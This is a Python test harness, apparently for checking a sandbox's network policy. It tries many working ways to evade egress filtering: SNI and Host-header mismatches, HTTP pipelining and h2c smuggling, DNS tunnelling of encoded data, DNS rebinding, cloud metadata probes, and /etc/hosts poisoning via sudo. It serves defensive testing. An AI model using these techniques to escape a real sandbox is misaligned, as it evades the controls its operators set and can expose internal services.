"""Runs inside a sandbox: `evade.py WHAT [ARGUMENTS]` prints in one line what came of it. The functions
called way_* are the ways round a network policy; each prints ESCAPED when it got what no policy gives."""
import contextlib
import itertools
import os
import select
import socket
import ssl
import struct
import subprocess
import sys
import time

ONE, TWO, THREE, NEAR = '198.51.100.10', '198.51.100.11', '203.0.113.5', '198.51.100.1'


def connect(address, port, timeout=None):
    """With all the time that a busy machine may need, but for the ways round: many of them end in silence."""
    way = 'way_' + sys.argv[1] in globals() if len(sys.argv) > 1 else False
    return socket.create_connection((address, port), timeout or (4 if way else 20))


def said(error):
    if isinstance(error, ssl.SSLError):
        return error.reason or str(error)
    if isinstance(error, socket.timeout):
        return 'silence'
    return 'refused' if getattr(error, 'errno', 0) in (101, 104, 111, 113) else f'{type(error).__name__} {error}'


def first(link):
    data = link.recv(4096)
    return data.split(b'\n')[0].split()[0].decode() if data else 'end'


def raw(address, port):
    link = connect(address, int(port))
    if int(port) == 7:
        link.sendall(b'hello\n')
    return first(link)


def exchange(link, text):
    """One request; the status and the first line of the body."""
    link.sendall(text.encode())
    data = b''
    while b'\r\n\r\n' not in data:
        more = link.recv(65536)
        if not more:
            return 'end' if not data else data.decode(errors='replace')
        data += more
    head, _, body = data.partition(b'\r\n\r\n')
    for line in head.split(b'\r\n')[1:]:
        name, _, value = line.partition(b':')
        while name.lower() == b'content-length' and len(body) < int(value):
            body += link.recv(65536)
    return head.split()[1].decode() + ' ' + body.decode(errors='replace').split('\n')[0]


def request(host, path='/', more=''):
    return f'GET {path} HTTP/1.1\r\nHost: {host}\r\n{more}\r\n'


def http(address, host, port='80'):
    return exchange(connect(address, int(port)), request(host))


def wrap(link, name):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    return context.wrap_socket(link, server_hostname=name)


def tls(address, name=None):
    return exchange(wrap(connect(address, 443), name), request(name or 'x'))


def hello(name):
    """The bytes of a client's hello."""
    context = ssl.create_default_context()
    coming, going = ssl.MemoryBIO(), ssl.MemoryBIO()
    with contextlib.suppress(ssl.SSLWantReadError):
        context.wrap_bio(coming, going, server_hostname=name).do_handshake()
    return going.read()


def slow_tls(address, name):
    context = ssl.create_default_context(cafile='/tmp/ca.pem')
    coming, going = ssl.MemoryBIO(), ssl.MemoryBIO()
    tied = context.wrap_bio(coming, going, server_hostname=name)
    link = connect(address, 443)
    link.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    slowly = True
    while True:
        try:
            tied.do_handshake()
            link.sendall(going.read())
            break
        except ssl.SSLWantReadError:
            data, step = going.read(), 40
            for at in range(0, len(data), step):
                link.sendall(data[at:at + step])
                time.sleep(0.01 if slowly else 0)
            slowly = False
            more = link.recv(65536)
            if not more or more[0] == 21:
                return 'refused'
            coming.write(more)
    return 'certificate of ' + tied.getpeercert()['subjectAltName'][0][1]


def question(name, kind):
    labels = b''.join(bytes([len(label)]) + label.encode() for label in name.split('.'))
    return struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0) + labels + b'\0' + struct.pack('>HH', kind, 1)


def answer(message):
    rcode, n = message[3] & 15, struct.unpack('>H', message[6:8])[0]
    if rcode:
        return 'no such name' if rcode == 3 else f'rcode {rcode}'
    return socket.inet_ntoa(message[-4:]) if n else 'empty'


def ask_udp(server, name, kind):
    link = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    link.settimeout(4)
    link.sendto(question(name, int(kind)), (server, 53))
    data, peer = link.recvfrom(4096)
    return answer(data) if peer[0] == server else f'answered by {peer[0]}'


def ask_tcp(server, name, kind):
    link, text = connect(server, 53), question(name, int(kind))
    link.sendall(struct.pack('>H', len(text)) + text)
    data = b''
    while len(data) < 2 or len(data) < 2 + struct.unpack('>H', data[:2])[0]:
        more = link.recv(4096)
        if not more:
            return 'end'
        data += more
    return answer(data[2:])


def resolve(name):
    try:
        return socket.gethostbyname(name)
    except socket.gaierror as error:
        return 'no such name' if error.errno in (-2, -5) else str(error)


def hold(name, kind, address=None):
    """A connection that stays, and says when it does not."""
    address = address or socket.gethostbyname(name)
    if kind == 'tls':
        link = wrap(connect(address, 443), name)
    else:
        link = connect(address, 80)
        exchange(link, request(name))
    print('up', flush=True)
    link.settimeout(60)
    try:
        print('cut' if not link.recv(1) else 'bytes', flush=True)
    except OSError:
        print('cut', flush=True)
    time.sleep(60)


def twice(name, port):
    """Two requests on one connection, the second when it is told to."""
    link = wrap(connect(socket.gethostbyname(name), int(port)), name)
    print(exchange(link, request(name)), flush=True)
    for _ in range(1200):
        if os.path.exists('/tmp/go'):
            break
        time.sleep(0.05)
    return exchange(link, request(name))


def greet(name, count):
    """As many hellos at once: how many of them were answered, and how long that took."""
    address, text, began = socket.gethostbyname(name), hello(name), time.monotonic()
    links, answered = [], 0
    for _ in range(int(count)):
        links.append(connect(address, 443))
        with contextlib.suppress(OSError):
            links[-1].sendall(text)
    for link in links:
        with contextlib.suppress(OSError):
            answered += bool(link.recv(1))
    return f'{answered} {time.monotonic() - began}'


def hoard(name):
    """Opens as many connections as it can, and says how many it was left."""
    address, kept, text = socket.gethostbyname(name), [], hello(name)
    for _ in range(700):
        with contextlib.suppress(OSError):
            kept.append(connect(address, 443, 1))
            kept[-1].sendall(text)
    time.sleep(2)
    alive = select.poll()
    for link in kept:
        alive.register(link, select.POLLRDHUP)
    print(len(kept) - len(alive.poll(0)), flush=True)
    time.sleep(120)


# --- the ways round; each gets the address of another sandbox ---

def way_address_literal(_):
    return raw(TWO, 7)


def way_address_http(_):
    return http(TWO, TWO)


def way_address_tls(_):
    return tls(TWO, 'other.example')


def way_address_udp(_):
    link = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    link.settimeout(1)
    link.connect((TWO, 7))
    link.send(b'x')
    return link.recv(100).split()[0].decode()


def way_udp_443(_):
    link = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    link.settimeout(1)
    link.connect((TWO, 443))
    link.send(b'quic')
    return link.recv(100).split()[0].decode()


def way_ipv6(_):
    for address in ('2001:db8::1', f'64:ff9b::{TWO}', f'::ffff:{TWO}', '2002:c633:640b::1'):
        link = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
        link.settimeout(1)
        with contextlib.suppress(OSError):
            link.connect((address, 443))
            if not address.startswith('::ffff:'):  # which is IPv4 in disguise
                return 'ESCAPED ' + address
    return 'no way'


PING = f"""
import socket, struct
link = socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)
link.settimeout(1)
link.sendto(struct.pack('>BBHHH', 8, 0, 0xf7fd, 1, 1), ('{TWO}', 0))
while link.recvfrom(100)[1][0] != '{TWO}':
    pass
print('answered')
"""


def way_ping(_):
    result = subprocess.run(['sudo', 'python3', '-c', PING], capture_output=True, text=True, timeout=10)
    return 'ESCAPED' if 'answered' in result.stdout and not is_open() else (result.stdout or 'no answer')


def way_other_sni(_):
    return tls(ONE, 'other.example')


def way_no_sni(_):
    return tls(TWO)


def way_sni_then_other_address(_):
    """An allowed name, said to the server of another."""
    told = tls(TWO, 'allowed.example')
    return 'ESCAPED ' + told if TWO in told and not is_open() else told


def is_open():
    """Whether this is the run without a policy."""
    return resolve('dns.example') == TWO


def way_host_under_sni(_):
    link = wrap(connect(TWO, 443), 'allowed.example')
    return exchange(link, request('other.example'))


def way_other_host(_):
    return http(TWO, 'other.example')


def way_second_request(_):
    link = connect(TWO, 80)
    told = exchange(link, request('allowed.example'))
    told += ' / ' + exchange(link, request('other.example', '/second'))
    return 'ESCAPED' if not is_open() and '/second' in told else told[:80]


def way_pipelined(_):
    link = connect(TWO, 80)
    link.sendall((request('allowed.example') + request('other.example', '/second')).encode())
    time.sleep(1)
    told = link.recv(65536).decode(errors='replace')
    return 'ESCAPED' if not is_open() and '/second' in told else told[:80]


def way_absolute_form(_):
    return exchange(connect(TWO, 80), request('allowed.example', 'http://other.example/absolute'))


def way_two_hosts(_):
    return exchange(connect(TWO, 80), request('allowed.example', more='Host: other.example\r\n'))


def way_folded_host(_):
    return exchange(connect(TWO, 80), 'GET / HTTP/1.1\r\nX: y\r\n Host: allowed.example\r\nHost: other.example\r\n\r\n')


def way_connect_method(_):
    return exchange(connect(TWO, 80), 'CONNECT other.example:443 HTTP/1.1\r\nHost: other.example:443\r\n\r\n')


def h2(link, host):
    """One request in HTTP/2's own frames: settings, then headers."""
    headers = b'\x82\x84\x86\x01' + bytes([len(host)]) + host.encode()
    link.sendall(b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + b'\0\0\0\4\0\0\0\0\0'
                 + bytes([0, 0, len(headers), 1, 5, 0, 0, 0, 1]) + headers)
    told = link.recv(100)
    return 'frames' if told[3:4] == b'\4' else told.decode(errors='replace').split('\r')[0] or 'end'


def way_h2_prior_knowledge(_):
    return h2(connect(TWO, 80), 'other.example')


def way_h2_after_request(_):
    link = connect(TWO, 80)
    return exchange(link, request('allowed.example'))[:40] + ' / ' + h2(link, 'other.example')


def way_h2c_upgrade(_):
    link = connect(TWO, 80)
    wish = 'Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n'
    return exchange(link, request('allowed.example', more=wish))[:40] + ' / ' + h2(link, 'other.example')


def way_redirect(_):
    result = subprocess.run(['curl', '-sSL', '-m', '8', 'http://allowed.example/redirect?http://other.example/r'],
                            capture_output=True, text=True)
    return (result.stdout + result.stderr).split('\n')[0]


def way_poisoned_hosts_file(_):
    subprocess.run(['sudo', 'sh', '-c', f'echo {TWO} allowed.example >>/etc/hosts'], capture_output=True)
    told = http('allowed.example', 'allowed.example')
    subprocess.run(['sudo', 'sh', '-c', 'head -n -1 /etc/hosts >/tmp/h; cat /tmp/h >/etc/hosts'], capture_output=True)
    return 'ESCAPED' if not is_open() and f'"{TWO}"' in told else told[:80]


def way_upgrade_then_other(_):
    link = connect(TWO, 80)
    told = exchange(link, request('allowed.example', more='Connection: upgrade\r\nUpgrade: websocket\r\n'))
    return told[:60] + exchange(link, request('other.example', '/tunnelled'))[:60]


def way_dns_tunnel(_):
    return resolve('c2VjcmV0.tunnel.example')


def way_dns_tunnel_txt(_):
    return ask_udp('10.199.0.1', 'c2VjcmV0.tunnel.example', '16')


def way_dns_tunnel_below(_):
    return ask_udp('10.199.0.1', 'c2VjcmV0.allowed.example', '1')


def way_dns_tcp(_):
    return ask_tcp(TWO, 'c2VjcmV0.other.example', '1')


def way_dns_other_server(_):
    return ask_udp(TWO, 'c2VjcmV0.third.example', '1')


def way_dns_over_tls(_):
    return raw(TWO, '853')


def way_dns_over_https(_):
    return tls(TWO, 'dns.example')


def way_rebinding(_):
    told = ask_udp('10.199.0.1', 'private.wild.example', '1')
    return 'ESCAPED' if '10.' in told else told


def way_rebinding_http(_):
    told = http(THREE, 'private.wild.example')
    return told[:80]


def way_rebinding_to_host(_):
    """A name that means the host itself: its own services are on 22, its server on some port."""
    return http(THREE, 'host.wild.example')[:80] + ' ' + tls(THREE, 'host.wild.example')


def local(addresses, *ports):
    """What no policy opens: nobody answers there, and nobody even accepts."""
    told = set()
    for address, port in itertools.product(addresses.split(','), map(int, ports)):
        try:
            link = connect(address, port, 1)
        except OSError as error:
            told.add(said(error))
            continue
        told.add('accepted')
        with contextlib.suppress(OSError):
            link.sendall(b'GET / HTTP/1.0\r\n\r\n')
            if answer := link.recv(100):
                return f'ESCAPED to {address}:{port} {answer}'
    return ' '.join(sorted(told))


def gateway():
    words = subprocess.run(['ip', 'route', 'show', 'default'], capture_output=True, text=True).stdout.split()
    return words[2]


def way_proxy_port(_):
    return local(gateway() + ',10.199.0.1', *range(19900, 19910))


def way_gateway(_):
    return local(gateway(), 22, 80, 443)


def way_host_address(_):
    return local(NEAR, 22, 80, 443, 19900)


def way_neighbour(address):
    return local(address, 8000, 49983)


def way_metadata(_):
    return local('169.254.169.254,168.63.129.16', 80)


def way_private(_):
    return local('10.1.2.3,172.16.0.9,192.168.1.1,100.64.0.1,192.0.0.1,198.18.0.1', 80)


def way_link_local(_):
    return local('169.254.1.1', 22, 80)


def way_server_first(_):
    return raw(TWO, '13')


def way_split_hello(_):
    return slow_tls(TWO, 'other.example')


def way_half_a_hello(_):
    """A name that never comes whole, and then the end."""
    link = connect(TWO, 443)
    link.sendall(hello('allowed.example')[:60])
    link.shutdown(socket.SHUT_WR)
    return first(link)


def main():
    what, arguments = sys.argv[1], sys.argv[2:]
    action = globals().get('way_' + what) or globals()[what]
    try:
        print(action(*arguments))
    except OSError as error:
        print(said(error))


if __name__ == '__main__':
    os.environ.setdefault('HOME', '/tmp')
    main()
